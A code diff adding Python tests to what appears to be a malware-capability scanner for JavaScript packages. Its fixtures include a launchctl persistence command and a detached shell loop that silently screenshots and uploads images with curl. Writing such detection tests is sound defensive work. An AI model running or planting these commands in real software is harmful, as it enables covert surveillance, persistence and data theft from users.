@@ -102,3 +102,24 @@ def test_commands_run_from_a_data_handler_are_a_remote_command() -> None:
     assert "shell:remote-command" in details(bind, SPAWN)
     logging = "const { exec } = require('child_process'); p.on('data', log); exec(command);"
     assert "shell:remote-command" not in details(logging, SPAWN)
+
+
+def test_a_spawned_command_line_is_read_like_a_line_of_a_script() -> None:
+    source = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('launchctl load -w ' + plist);\n"
+    )
+    assert details(source, Capability.FILE_WRITE) == {"persistence"}
+    plain = "const { execSync } = require('child_process');\nexecSync('git status');\n"
+    assert not found(plain, Capability.FILE_WRITE)
+
+
+def test_a_command_line_held_in_a_variable_is_read_one_level_deep() -> None:
+    source = (
+        "const { spawn } = require('child_process');\n"
+        "const loop = `while :; do screencapture -x /tmp/s.jpg; curl -F f=@/tmp/s.jpg ${u}; done`;"
+        "\n"
+        "spawn('/bin/sh', ['-c', loop], { detached: true });\n"
+    )
+    assert "screen" in details(source, Capability.CREDENTIAL_ACCESS)
+    assert "curl" in details(source, Capability.NETWORK)
